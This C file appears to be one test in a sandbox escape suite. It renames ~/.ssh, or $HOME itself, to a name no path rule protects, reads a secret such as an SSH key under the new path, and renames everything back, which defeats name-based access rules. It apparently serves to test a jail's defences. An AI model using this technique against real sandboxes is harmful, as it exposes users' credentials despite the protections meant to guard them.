/* e0204-rename-ancestor - move a protected file out from under its rule
 * by renaming a directory above it.
 *
 * Attack: path rules protect HOME/.ssh and what is below it by name.
 * When the jail's tree contains $HOME (the default policy promises the
 * user's secrets stay closed "even when the start directory is $HOME or
 * above it"), the program renames .ssh, or $HOME itself, to a name no
 * rule protects, reads the secret under its new path, and renames
 * everything back.
 * Source: janus team (path-based rules versus renames of an ancestor;
 * Garfinkel 2003, "Traps and Pitfalls", on name-based access checks).
 * Usage: e0204-rename-ancestor SECRET   (SECRET is HOME/.ssh/NAME) */
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>

#include "escape.h"

/* Renames `from` to `from` + "-moved", reads the secret at its new path
 * (`tail` below the moved directory), renames it back. */
static void move_and_read(const char *label, const char *from, const char *tail)
{
	char to[PATH_MAX + 16], moved[PATH_MAX * 2 + 32], what[256];
	snprintf(to, sizeof to, "%s-moved", from);
	snprintf(moved, sizeof moved, "%s/%s", to, tail);
	snprintf(what, sizeof what, "rename %s", label);
	if (rename(from, to) < 0) {
		esc_show_result(what, -1);
		return;
	}
	esc_show_result(what, 0);
	snprintf(what, sizeof what, "read under the renamed %s", label);
	esc_try_read(what, moved);
	if (rename(to, from) < 0)
		esc_show_result("rename back", -1);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0204-rename-ancestor SECRET");
	char a[PATH_MAX], b[PATH_MAX], c[PATH_MAX], d[PATH_MAX], tail[PATH_MAX * 2];
	snprintf(a, sizeof a, "%s", argv[1]);
	snprintf(b, sizeof b, "%s", argv[1]);
	snprintf(c, sizeof c, "%s", argv[1]);
	snprintf(d, sizeof d, "%s", argv[1]);
	const char *name = basename(a);
	char *ssh = dirname(b);
	char *home = dirname(dirname(c));
	const char *sshname = basename(dirname(d));
	move_and_read(".ssh", ssh, name);
	snprintf(tail, sizeof tail, "%s/%s", sshname, name);
	move_and_read("$HOME", home, tail);
	return 0;
}
